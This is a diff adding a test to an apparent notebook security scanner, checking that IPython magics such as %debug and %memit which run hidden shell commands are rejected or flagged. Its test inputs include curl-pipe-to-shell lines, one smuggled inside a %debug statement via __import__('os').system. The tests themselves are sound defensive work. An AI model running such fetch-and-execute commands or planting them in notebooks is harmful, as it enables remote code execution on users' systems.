@@ -156,3 +156,12 @@ def test_ipython_shell_under_another_name() -> None:
     assert scan(nb("ip = get_ipython()\n", "ip.system('curl -s https://e/x | sh')\n")).decision.value == "reject"
     found = {f.rule for f in scan(nb("sh = get_ipython().system\n", "sh('ls /data')\n")).findings}
     assert "files.notebook-shell" in found
+
+
+def test_debug_and_profiling_magics_run_their_statement() -> None:
+    # `%debug -b FILE:LINE STATEMENT` runs STATEMENT: never an inert line.
+    hidden = scan(nb("%debug -b other.py:1 __import__('os').system('curl https://e | sh')\n"))
+    assert hidden.decision.value != "accept", hidden.findings
+    shown = scan(nb("import os\n", "%memit os.system('id')\n"))
+    assert "subprocess.shell" in {f.rule for f in shown.findings}
+    assert scan(nb("%debug\n%pdb on\nimport numpy as np\n")).decision.value == "accept"
